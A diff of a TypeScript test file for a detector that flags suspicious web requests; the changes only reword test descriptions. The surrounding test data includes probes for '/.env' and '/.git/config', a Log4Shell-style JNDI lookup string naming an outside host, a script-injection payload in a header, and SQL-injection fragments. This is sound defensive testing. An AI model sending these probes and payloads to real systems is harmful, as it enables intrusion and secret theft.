@@ -16,7 +16,7 @@ const ordinary: ObservedRequest = {
 };
 const signs = (seen: Partial<ObservedRequest>) => detectIndicators({ ...ordinary, ...seen });
 
-describe('the signs of an answer', () => {
+describe('the indicators of a response', () => {
   it.each<[string | null, number, string | null, ThreatIndicator[]]>([
     ['address-blocked', 403, null, ['blocked']],
     ['cross-site', 403, '/api/contacts', ['cross-site']],
@@ -41,7 +41,7 @@ describe('the signs of an answer', () => {
     expect(signs({ code, status, route, target: route ?? '/somewhere' })).toEqual(expected),
   );
 
-  it('tell of every consent that is sent', () =>
+  it('include every submitted consent', () =>
     expect(
       signs({
         method: 'POST',
@@ -52,7 +52,7 @@ describe('the signs of an answer', () => {
     ).toEqual(['consent-submitted']));
 });
 
-describe('a request that a page of another site caused', () => {
+describe('a request caused by a page of another site', () => {
   const headers = { 'sec-fetch-site': 'cross-site', 'sec-fetch-mode': 'no-cors', 'sec-fetch-dest': 'image' };
 
   it('is marked as cross-site', () =>
@@ -65,7 +65,7 @@ describe('a request that a page of another site caused', () => {
   it('is ordinary without other indicators', () => expect(signs({ headers })).toEqual([]));
 });
 
-describe('the signs of an address', () => {
+describe('the indicators of a request target', () => {
   it.each([
     '/.env',
     '/.git/config',
@@ -112,7 +112,7 @@ describe('the signs of an address', () => {
   ])('%s is an injection probe', (target) => expect(signs({ target })).toContain('injection-probe'));
 });
 
-describe('the signs of header fields', () => {
+describe('the indicators of header fields', () => {
   it.each<[ObservedRequest['headers'], ThreatIndicator[]]>([
     [{ 'user-agent': '${jndi:ldap://203.0.113.9/a}' }, ['injection-probe']],
     [{ referer: 'https://x.example/<script>alert(1)</script>' }, ['injection-probe']],
@@ -129,13 +129,13 @@ describe('the signs of header fields', () => {
 });
 
 describe('an unknown session token', () => {
-  it('is forged once its network has shown many', () =>
+  it('is forged once its network has sent many', () =>
     expect(
       signs({ presentsUnknownToken: true, headers: { cookie: `aera_session=${'A'.repeat(43)}` } }),
     ).toEqual(['forged-token']));
 });
 
-describe('what people type', () => {
+describe('ordinary input', () => {
   it.each([
     "O'Brien or trust",
     "the trustees' or beneficiaries' rights",
@@ -164,7 +164,7 @@ describe('the patterns', () => {
     }
   });
 
-  it('get through any text of any length', () => {
+  it('accept any text of any length', () => {
     const pieces = fc.constantFrom(
       "' or ",
       '((((',
